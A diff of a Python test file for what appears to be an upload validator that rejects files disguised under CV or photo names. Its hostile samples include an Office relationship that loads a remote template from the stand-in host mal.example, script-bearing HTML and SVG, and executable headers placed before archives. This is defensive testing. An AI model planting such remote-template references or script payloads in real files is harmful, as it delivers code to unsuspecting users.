@@ -83,7 +83,10 @@ def damaged(content: bytes, at: int) -> bytes:
 
 MAX_BYTES = 10 * 1024 * 1024
 UNKNOWN = "Ce format n'est pas accepté"
-REMOTE = '<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" Target="https://mal.example/t.dotm" TargetMode="External"/></Relationships>'
+REMOTE = (
+    '<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" Target="https://mal.example/t.dotm" '
+    'TargetMode="External"/></Relationships>'
+)
 
 HOSTILE = {
     # What is not one of the formats, whatever its name says.
@@ -95,7 +98,7 @@ HOSTILE = {
     "page with a script": (b"<html><script>alert(1)</script>", "cv.pdf", UNKNOWN),
     "svg with a script": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "photo.png", UNKNOWN),
     "gif": (picture("GIF"), "photo.png", UNKNOWN),
-    "text": ("Mon CV".encode(), "cv.pdf", UNKNOWN),
+    "text": (b"Mon CV", "cv.pdf", UNKNOWN),
     "page before a pdf": (b"<script>alert(1)</script>" + pdf(), "cv.pdf", UNKNOWN),
     "program before an archive": (b"MZ\x90\x00" + ooxml(), "cv.docx", UNKNOWN),
     "gzip": (b"\x1f\x8b\x08\x00" + b"\0" * 30, "cv.docx", UNKNOWN),
